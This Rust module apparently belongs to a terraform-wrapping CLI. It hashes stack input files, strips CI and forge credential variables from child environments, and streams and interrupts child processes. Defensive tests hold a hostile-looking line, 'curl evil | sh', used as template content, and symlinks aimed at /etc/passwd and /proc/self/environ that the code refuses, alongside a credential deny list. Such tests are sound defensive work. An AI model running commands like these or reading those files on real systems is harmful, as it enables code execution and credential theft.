//! Runs terraform on behalf of `airlock plan` and `airlock apply`.
//!
//! - [`input_files`]: a stack's input files with their SHA-256s (the fingerprint's material,
//!   `airlock_core::inputs`), independent of git, so a plan reviewed on a pull request can be
//!   applied after merge only if the merged content, `airlock.hcl` and policies included, is the same.
//! - [`phase_env`]: the child environment of one phase. **Invariant (docs/design.md 4):** the plan
//!   process never sees the apply profile's variables nor an apply token, and the apply process
//!   never sees the plan profile's variables; neither sees the caller's own airlock token nor
//!   the CI job's forge tokens and ID-token variables.
//! - [`run_streaming`]: runs a command, echoing its output live and keeping a copy for the log.

#![deny(clippy::print_stdout, clippy::print_stderr)]
#![deny(missing_docs)]

use std::collections::{BTreeSet, HashMap};
use std::io::{self, Read, Write};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, ExitStatus, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use airlock_core::glob::glob_match;
use airlock_core::inputs::{self, InputFile};
use rustix::process::{kill_process, Pid, Signal};

pub mod affected;
pub mod cli_config;
pub mod doctor;
pub mod git;
pub mod modules;

/// Which phase a child process belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Phase {
    /// `terraform init` + `plan`: read and lock only.
    Plan,
    /// `terraform apply` of an approved run.
    Apply,
}

/// Variables that carry a credential a child (terraform, its providers and provisioners) must
/// not inherit, as `airlock_core::glob::glob_match` patterns: airlock's and the backend's (the
/// child gets its phase's token instead), and the CI job's, which the CLI reads for `airlock ci`
/// (`commands/ci/forge.rs`) and `airlock login --oidc` (`commands/oidc.rs`): the forge API tokens
/// (`GITHUB_TOKEN`, GitLab's `CI_JOB_TOKEN` and `AIRLOCK_GITLAB_TOKEN`) and what yields a job ID
/// token (GitHub's `ACTIONS_ID_TOKEN_REQUEST_*`; GitLab's `id_tokens:` named `AIRLOCK_ID_TOKEN…`
/// as the README has them, and its older `CI_JOB_JWT*`). With an ID token, code in a plan or
/// apply could log in with the job's trust, a broader role than its run's token.
const CREDENTIAL_VARS: &[&str] = &[
    "AIRLOCK_TOKEN",
    "TF_HTTP_PASSWORD",
    "TF_HTTP_USERNAME",
    "GITHUB_TOKEN",
    "ACTIONS_ID_TOKEN_REQUEST_URL",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
    "CI_JOB_TOKEN",
    "AIRLOCK_GITLAB_TOKEN",
    "AIRLOCK_ID_TOKEN*",
    "CI_JOB_JWT*",
];

/// Builds a child environment: everything in `base` except credential variables and the other
/// phase's profile, plus the backend credentials of this phase.
pub fn phase_env(
    base: impl IntoIterator<Item = (String, String)>,
    other_profile: &[String],
    token: &str,
) -> Vec<(String, String)> {
    let mut env: Vec<(String, String)> = base
        .into_iter()
        .filter(|(k, _)| {
            !CREDENTIAL_VARS.iter().any(|c| glob_match(c, k))
                && !other_profile.iter().any(|o| o == k)
        })
        .collect();
    env.push(("TF_HTTP_USERNAME".into(), "airlock".into()));
    env.push(("TF_HTTP_PASSWORD".into(), token.into()));
    env.push(("TF_INPUT".into(), "0".into()));
    env.push(("TF_IN_AUTOMATION".into(), "1".into()));
    env
}

/// Most bytes [`input_files`] hashes for one stack.
pub const MAX_INPUT_BYTES: u64 = 1 << 30;

/// The input files of the stack at `dir` inside the repository `root` (the directory of
/// `airlock.hcl`, or `dir` itself when there is none): every file under the stack's directory
/// and under the local module directories it calls (transitively, read by [`modules`]: what
/// `file()` and `templatefile()` read too, not `.terraform/`), plus `airlock.hcl` and every
/// `policy/**.rego` of the root, all listed by the same [`modules::Walker`] rules (a symbolic
/// link only to a file inside the root; a FIFO, device or socket refused). Paths are relative to
/// `root`, sorted. Independent of git and of file times. At most [`MAX_INPUT_BYTES`] are read
/// and hashed, counted as read.
pub fn input_files(root: &Path, dir: &Path) -> io::Result<Vec<InputFile>> {
    let start = dir.strip_prefix(root).map_err(|_| {
        io::Error::other(format!(
            "{} is not inside the repository root {}",
            dir.display(),
            root.display()
        ))
    })?;
    let start = start.to_string_lossy().replace('\\', "/");
    let mut tree = modules::FsTree { root };
    let mut cache = HashMap::new();
    let mut walker = modules::Walker::new(&mut tree, &mut cache);
    let stack = walker
        .stack(&start)
        .map_err(io::Error::other)?
        .ok_or_else(|| io::Error::other(format!("{} is not a directory", dir.display())))?;
    let mut files: BTreeSet<String> = stack.into_keys().collect();
    // Of what the walker finds there, `airlock.hcl` itself and the policies (a link to a file
    // elsewhere in the root is hashed through the link).
    let config = walker
        .files_at(inputs::CONFIG_PATH)
        .map_err(io::Error::other)?;
    files.extend(
        config
            .into_iter()
            .flatten()
            .filter(|p| p == inputs::CONFIG_PATH),
    );
    let policies = walker
        .files_at(inputs::POLICY_DIR)
        .map_err(io::Error::other)?;
    files.extend(
        policies
            .into_iter()
            .flatten()
            .filter(|p| inputs::is_policy_path(p)),
    );
    let mut out = Vec::with_capacity(files.len());
    let mut left = MAX_INPUT_BYTES;
    for path in &files {
        let content = modules::read_at_most(&root.join(path), left.saturating_add(1))
            .map_err(|e| io::Error::other(format!("{path}: {e}")))?;
        left = left.checked_sub(content.len() as u64).ok_or_else(|| {
            io::Error::other(format!(
                "the stack's input files (every file under its directory and its modules' \
                 directories) hold more than {} MiB, reached at {path}; move what the \
                 configuration does not read out of those directories",
                MAX_INPUT_BYTES >> 20
            ))
        })?;
        out.push(InputFile::of(path, &content));
    }
    out.sort();
    Ok(out)
}

/// What a finished child process did.
pub struct Finished {
    /// Exit status.
    pub status: ExitStatus,
    /// Everything it printed (stdout and stderr, interleaved by arrival).
    pub log: Vec<u8>,
}

/// Interrupts received (SIGINT, SIGTERM), counted by [`interrupt`].
static INTERRUPTS: AtomicUsize = AtomicUsize::new(0);
/// How many children [`run_streaming_live`] is waiting for right now.
static RUNNING: AtomicUsize = AtomicUsize::new(0);

/// Records an interrupt of this process (the binary's signal handler calls it) and says whether
/// a child is running that will be told: [`run_streaming_live`] sends each one on to its child as
/// one SIGINT and keeps reading the child's output until it exits. So terraform, interrupted,
/// cancels gracefully and releases its state lock instead of dying on a closed pipe while
/// holding it; a second interrupt reaches terraform as its second Ctrl-C (exit at once). When
/// nothing is running the caller should exit itself.
pub fn interrupt() -> bool {
    INTERRUPTS.fetch_add(1, Ordering::SeqCst);
    RUNNING.load(Ordering::SeqCst) > 0
}

/// Runs `cmd` with exactly `env`, echoing its stdout and stderr live (to our stderr, so a
/// caller's stdout stays machine-readable) and keeping a copy.
pub fn run_streaming(cmd: Command, env: &[(String, String)]) -> io::Result<Finished> {
    run_streaming_live(cmd, env, Duration::from_secs(3600), &mut |_| {})
}

/// [`run_streaming`], also handing what the child printed since the last call to `sink` every
/// `every` while it runs, e.g. to send the apply log as it grows. What it printed after the
/// last call is only in the returned log (the caller sends that whole, and waits for nothing).
pub fn run_streaming_live(
    cmd: Command,
    env: &[(String, String)],
    every: Duration,
    sink: &mut dyn FnMut(&[u8]),
) -> io::Result<Finished> {
    run_streaming_until(cmd, env, every, sink, &AtomicBool::new(false))
}

/// [`run_streaming_live`] that kills the child (SIGKILL to its process group) within 50 ms of
/// `stop` being set by another thread: `airlock apply` stops a `terraform apply` that waits at
/// the state lock when its plan check fails.
pub fn run_streaming_until(
    mut cmd: Command,
    env: &[(String, String)],
    every: Duration,
    sink: &mut dyn FnMut(&[u8]),
    stop: &AtomicBool,
) -> io::Result<Finished> {
    cmd.env_clear()
        .envs(env.iter().map(|(k, v)| (k, v)))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        // Its own process group: a terminal's Ctrl-C or a supervisor's signal to our group
        // reaches terraform once, through `interrupt`, never twice (twice makes it exit at once).
        .process_group(0);
    let mut child = cmd.spawn()?;
    RUNNING.fetch_add(1, Ordering::SeqCst);
    let mut forwarded = INTERRUPTS.load(Ordering::SeqCst);
    let log = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let pump = |mut r: Box<dyn Read + Send>, log: std::sync::Arc<std::sync::Mutex<Vec<u8>>>| {
        std::thread::spawn(move || {
            let mut buf = [0u8; 8192];
            while let Ok(n) = r.read(&mut buf) {
                if n == 0 {
                    break;
                }
                let chunk = buf.get(..n).unwrap_or_default();
                let _ = io::stderr().write_all(chunk);
                if let Ok(mut l) = log.lock() {
                    l.extend_from_slice(chunk);
                }
            }
        })
    };
    let out = child.stdout.take().map(|o| pump(Box::new(o), log.clone()));
    let err = child.stderr.take().map(|e| pump(Box::new(e), log.clone()));
    let mut sent = 0usize;
    let mut flush = |sent: &mut usize| {
        let fresh = log
            .lock()
            .ok()
            .and_then(|l| l.get(*sent..).map(<[u8]>::to_vec))
            .unwrap_or_default();
        if !fresh.is_empty() {
            *sent += fresh.len();
            sink(&fresh);
        }
    };
    // The child is waited for on its own thread, so its end is seen at once (not at the next
    // poll) while this one forwards interrupts and hands the log over.
    let pid = Pid::from_raw(i32::try_from(child.id()).unwrap_or(0));
    let (ended_tx, ended) = std::sync::mpsc::channel();
    let waiter = std::thread::spawn(move || {
        let _ = ended_tx.send(child.wait());
    });
    let mut last = std::time::Instant::now();
    let status = loop {
        match ended.recv_timeout(Duration::from_millis(50).min(every)) {
            Ok(status) => break status,
            Err(std::sync::mpsc::RecvTimeoutError::Disconnected) => {
                break Err(io::Error::other("the child's waiter ended"))
            }
            Err(std::sync::mpsc::RecvTimeoutError::Timeout) => {}
        }
        if stop.load(Ordering::SeqCst) {
            if let Some(pid) = pid {
                let _ = rustix::process::kill_process_group(pid, Signal::KILL);
            }
        }
        let asked = INTERRUPTS.load(Ordering::SeqCst);
        if asked > forwarded {
            forwarded = asked;
            if let Some(pid) = pid {
                let _ = kill_process(pid, Signal::INT);
            }
        }
        if last.elapsed() >= every {
            flush(&mut sent);
            last = std::time::Instant::now();
        }
    };
    let _ = waiter.join();
    RUNNING.fetch_sub(1, Ordering::SeqCst);
    let status = status?;
    for t in [out, err].into_iter().flatten() {
        let _ = t.join();
    }
    let log = std::mem::take(
        &mut *log
            .lock()
            .map_err(|_| io::Error::other("log lock poisoned"))?,
    );
    Ok(Finished { status, log })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_live_run_hands_over_its_output_as_it_grows_and_all_of_it() {
        let mut cmd = Command::new("/bin/sh");
        cmd.args(["-c", "echo first; sleep 0.5; echo second; echo err >&2"]);
        let mut parts: Vec<Vec<u8>> = Vec::new();
        let done = run_streaming_live(cmd, &[], Duration::from_millis(100), &mut |p| {
            parts.push(p.to_vec())
        })
        .unwrap();
        assert!(done.status.success());
        assert_eq!(
            parts.first().map(Vec::as_slice),
            Some(&b"first\n"[..]),
            "the first line arrived before the end: {parts:?}"
        );
        assert!(done.log.starts_with(&parts.concat()));
        let log = String::from_utf8_lossy(&done.log);
        assert!(
            ["first\n", "second\n", "err\n"]
                .iter()
                .all(|l| log.contains(l)),
            "{log}"
        );
    }

    #[test]
    fn a_stopped_run_is_killed_with_its_process_group() {
        let mut cmd = Command::new("/bin/sh");
        cmd.args(["-c", "echo started; sleep 30 & wait"]);
        let stop = AtomicBool::new(false);
        let start = std::time::Instant::now();
        let done = std::thread::scope(|scope| {
            scope.spawn(|| {
                std::thread::sleep(Duration::from_millis(200));
                stop.store(true, Ordering::SeqCst);
            });
            run_streaming_until(cmd, &[], Duration::from_secs(5), &mut |_| {}, &stop).unwrap()
        });
        assert!(!done.status.success());
        // The shell and its `sleep` are gone: their output pipes closed long before 30 s.
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "{:?}",
            start.elapsed()
        );
        assert_eq!(String::from_utf8_lossy(&done.log), "started\n");
    }

    #[test]
    fn inputs_cover_the_stack_and_module_directories_config_and_policies() {
        let tmp = tempfile::tempdir().unwrap();
        let repo = tmp.path();
        let root = repo.join("stacks/app");
        std::fs::create_dir_all(&root).unwrap();
        std::fs::create_dir_all(repo.join("modules/net")).unwrap();
        std::fs::write(
            root.join("main.tf"),
            "module \"net\" {\n  source = \"../../modules/net\"\n}\n",
        )
        .unwrap();
        std::fs::write(
            repo.join("modules/net/main.tf"),
            "resource \"terraform_data\" \"x\" {}\n",
        )
        .unwrap();
        let fp = |v: &str| airlock_core::inputs::fingerprint(v, &input_files(repo, &root).unwrap());
        let a = fp("1.11.4");
        // Terraform's working dir does not count, nor files outside the stack and its modules.
        std::fs::create_dir_all(root.join(".terraform/providers")).unwrap();
        std::fs::write(root.join(".terraform/providers/p"), "x").unwrap();
        std::fs::create_dir_all(repo.join("docs")).unwrap();
        std::fs::write(repo.join("docs/x.md"), "x").unwrap();
        assert_eq!(fp("1.11.4"), a);
        // Any other file under the stack's directory does (file(), templatefile()).
        std::fs::create_dir_all(root.join("templates")).unwrap();
        std::fs::write(root.join("templates/user_data.tpl"), "echo ok").unwrap();
        let with_template = fp("1.11.4");
        assert_ne!(with_template, a);
        std::fs::write(root.join("templates/user_data.tpl"), "curl evil | sh").unwrap();
        assert_ne!(fp("1.11.4"), with_template);
        std::fs::remove_dir_all(root.join("templates")).unwrap();
        assert_eq!(fp("1.11.4"), a);
        // A change in a called local module does.
        std::fs::write(
            repo.join("modules/net/main.tf"),
            "resource \"terraform_data\" \"y\" {}\n",
        )
        .unwrap();
        let b = fp("1.11.4");
        assert_ne!(a, b);
        // So do the terraform version, var files, the lock file, airlock.hcl and policies.
        assert_ne!(fp("1.11.5"), b);
        std::fs::write(root.join("prod.tfvars"), "x = 1").unwrap();
        let c = fp("1.11.4");
        assert_ne!(c, b);
        std::fs::write(root.join(".terraform.lock.hcl"), "# lock").unwrap();
        let d = fp("1.11.4");
        assert_ne!(d, c);
        std::fs::write(repo.join("airlock.hcl"), "").unwrap();
        let e = fp("1.11.4");
        assert_ne!(e, d);
        std::fs::create_dir_all(repo.join("policy/sub")).unwrap();
        std::fs::write(repo.join("policy/sub/deny.rego"), "package main").unwrap();
        let f = fp("1.11.4");
        assert_ne!(f, e);
        std::fs::write(repo.join("policy/sub/deny_test.rego"), "package main").unwrap();
        assert_eq!(fp("1.11.4"), f);
        let paths: Vec<String> = input_files(repo, &root)
            .unwrap()
            .into_iter()
            .map(|f| f.path)
            .collect();
        assert_eq!(
            paths,
            [
                "airlock.hcl",
                "modules/net/main.tf",
                "policy/sub/deny.rego",
                "stacks/app/.terraform.lock.hcl",
                "stacks/app/main.tf",
                "stacks/app/prod.tfvars"
            ]
        );
        // A symbolic link to a file inside the root: the link and its target are inputs, read
        // through the link; a link out of the root is refused, not read.
        std::fs::write(repo.join("docs/shared.tf"), "# shared").unwrap();
        std::os::unix::fs::symlink("../../docs/shared.tf", root.join("shared.tf")).unwrap();
        let files = input_files(repo, &root).unwrap();
        let of = |p: &str| files.iter().find(|f| f.path == p).map(|f| f.sha256.clone());
        assert_eq!(of("stacks/app/shared.tf"), of("docs/shared.tf"));
        assert!(of("docs/shared.tf").is_some());
        std::fs::remove_file(root.join("shared.tf")).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", root.join("passwd.txt")).unwrap();
        let e = input_files(repo, &root).unwrap_err().to_string();
        assert!(
            e.starts_with("stacks/app/passwd.txt: a symbolic link to \"/etc/passwd\""),
            "{e}"
        );
    }

    /// A repository with a stack `stacks/app` and a `policy/` directory.
    fn repo_with_policies() -> tempfile::TempDir {
        let tmp = tempfile::tempdir().unwrap();
        let stack = tmp.path().join("stacks/app");
        std::fs::create_dir_all(&stack).unwrap();
        std::fs::write(stack.join("main.tf"), "").unwrap();
        std::fs::create_dir_all(tmp.path().join("policy")).unwrap();
        std::fs::write(tmp.path().join("policy/deny.rego"), "package main").unwrap();
        tmp
    }

    fn inputs_of(repo: &Path) -> io::Result<Vec<String>> {
        input_files(repo, &repo.join("stacks/app"))
            .map(|files| files.into_iter().map(|f| f.path).collect())
    }

    /// `policy/x.rego -> /proc/self/environ` would send the planner's environment, its airlock
    /// token included, to the server as policy text.
    #[test]
    fn a_policy_link_out_of_the_root_is_refused_naming_it() {
        let tmp = repo_with_policies();
        let repo = tmp.path();
        std::os::unix::fs::symlink("/proc/self/environ", repo.join("policy/x.rego")).unwrap();
        let e = inputs_of(repo).unwrap_err().to_string();
        assert!(
            e.starts_with(
                "policy/x.rego: a symbolic link to \"/proc/self/environ\", an absolute path"
            ),
            "{e}"
        );
        std::fs::remove_file(repo.join("policy/x.rego")).unwrap();
        std::os::unix::fs::symlink("../../etc/passwd", repo.join("policy/up.rego")).unwrap();
        let e = inputs_of(repo).unwrap_err().to_string();
        assert!(
            e.starts_with("policy/up.rego: a symbolic link to \"../../etc/passwd\", which leaves"),
            "{e}"
        );
        std::fs::remove_file(repo.join("policy/up.rego")).unwrap();
        // The policy directory itself is not a link either.
        std::fs::rename(repo.join("policy"), repo.join("real")).unwrap();
        std::os::unix::fs::symlink("real", repo.join("policy")).unwrap();
        let e = inputs_of(repo).unwrap_err().to_string();
        assert!(e.starts_with("policy: a symbolic link"), "{e}");
        std::fs::remove_file(repo.join("policy")).unwrap();
        std::fs::rename(repo.join("real"), repo.join("policy")).unwrap();
        // A link to a file inside the root is read through, as in the stack's directories.
        std::fs::create_dir_all(repo.join("shared")).unwrap();
        std::fs::write(repo.join("shared/common.rego"), "package main\n").unwrap();
        std::os::unix::fs::symlink("../shared/common.rego", repo.join("policy/common.rego"))
            .unwrap();
        assert_eq!(
            inputs_of(repo).unwrap(),
            [
                "policy/common.rego",
                "policy/deny.rego",
                "stacks/app/main.tf"
            ]
        );
    }

    /// `/dev/zero` has no length to trust: reading it would take all memory.
    #[test]
    fn a_policy_link_to_a_device_is_refused_without_reading_it() {
        let tmp = repo_with_policies();
        let repo = tmp.path();
        std::os::unix::fs::symlink("/dev/zero", repo.join("policy/y.rego")).unwrap();
        let e = inputs_of(repo).unwrap_err().to_string();
        assert!(
            e.starts_with("policy/y.rego: a symbolic link to \"/dev/zero\""),
            "{e}"
        );
    }

    /// Opening a FIFO for reading waits for a writer: `airlock plan` would hang.
    #[test]
    fn a_policy_fifo_is_refused_without_opening_it() {
        let tmp = repo_with_policies();
        let repo = tmp.path();
        let made = Command::new("mkfifo")
            .arg(repo.join("policy/z.rego"))
            .status()
            .unwrap();
        assert!(made.success());
        let e = inputs_of(repo).unwrap_err().to_string();
        assert!(
            e.starts_with("policy/z.rego: neither a file nor a directory"),
            "{e}"
        );
    }

    /// A provider or provisioner in the apply could otherwise mint a fresh forge ID token, log
    /// in with a broader role than the run-bound token, or act on the forge as the job.
    #[test]
    fn phase_env_drops_the_jobs_forge_credentials() {
        let dropped = [
            "GITHUB_TOKEN",
            "ACTIONS_ID_TOKEN_REQUEST_URL",
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
            "AIRLOCK_GITLAB_TOKEN",
            "CI_JOB_TOKEN",
            "CI_JOB_JWT",
            "CI_JOB_JWT_V2",
            "AIRLOCK_ID_TOKEN",
            "AIRLOCK_ID_TOKEN_2",
        ];
        let kept = [
            "GITHUB_REPOSITORY",
            "CI_PROJECT_ID",
            "AIRLOCK_URL",
            "AIRLOCK_TESTCLOUD_DIR",
            "TF_VAR_region",
        ];
        let base = dropped
            .iter()
            .chain(&kept)
            .map(|k| (k.to_string(), "value".to_owned()));
        let env = phase_env(base, &[], "run-token");
        let names: Vec<&str> = env.iter().map(|(k, _)| k.as_str()).collect();
        for k in dropped {
            assert!(!names.contains(&k), "{k} reaches terraform: {names:?}");
        }
        for k in kept {
            assert!(names.contains(&k), "{k} is dropped: {names:?}");
        }
    }

    #[test]
    fn phase_env_drops_credentials_and_the_other_profile() {
        let base = [
            ("PATH", "/bin"),
            ("AIRLOCK_TOKEN", "secret"),
            ("AWS_APPLY_ROLE_ARN", "arn:apply"),
            ("AWS_PLAN_ROLE_ARN", "arn:plan"),
            ("TF_HTTP_PASSWORD", "old"),
        ]
        .map(|(k, v)| (k.to_owned(), v.to_owned()));
        let env = phase_env(base, &["AWS_APPLY_ROLE_ARN".into()], "plan-token");
        let get = |k: &str| {
            env.iter()
                .filter(|(n, _)| n == k)
                .map(|(_, v)| v.as_str())
                .collect::<Vec<_>>()
        };
        assert_eq!(get("PATH"), ["/bin"]);
        assert_eq!(get("AWS_PLAN_ROLE_ARN"), ["arn:plan"]);
        assert!(get("AWS_APPLY_ROLE_ARN").is_empty());
        assert!(get("AIRLOCK_TOKEN").is_empty());
        assert_eq!(get("TF_HTTP_PASSWORD"), ["plan-token"]);
    }
}
